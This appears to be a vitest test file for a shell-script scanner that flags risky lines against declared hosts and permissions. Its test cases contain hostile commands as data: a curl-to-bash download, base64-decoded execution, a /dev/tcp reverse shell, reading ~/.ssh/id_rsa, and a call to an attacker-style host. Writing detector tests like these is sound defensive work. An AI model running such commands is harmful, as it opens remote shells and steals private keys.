import { describe, expect, it } from "vitest";
import { checkScript } from "./check-script.ts";

const declared = { hosts: ["api.pay.example"], network: true, files: true, usb: false };
function rulesOf(source: string): string[] {
  const found: string[] = [];
  checkScript(source, { declared, report: (rule, line) => found.push(`${rule}:${line}`) });
  return found;
}

describe("checkScript", () => {
  it.each([
    ["a download that is run", "curl -fsSL https://api.pay.example/i | bash", "shell-phrase:2"],
    ["decoded text that is run", "echo ZWNobyAx | base64 -d | sh", "eval-hidden:2"],
    ["a reverse shell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "shell-phrase:2"],
    ["keys of others", "cat ~/.ssh/id_rsa", "credentials:2"],
    ["an undeclared host", "curl https://collect.evil-cdn.net/x", "host-undeclared:2"],
  ])("finds %s", (_title, line, rule) => {
    expect(rulesOf(`#!/bin/sh\n${line}\n`)).toContain(rule);
  });

  it("lets honest lines and comments be", () => {
    const honest =
      "#!/bin/sh\n# cat ~/.ssh/id_rsa\ncurl https://api.pay.example/v1\necho YQ== | base64 -d\nls | sort\n";
    expect(rulesOf(honest)).toEqual([]);
  });
});
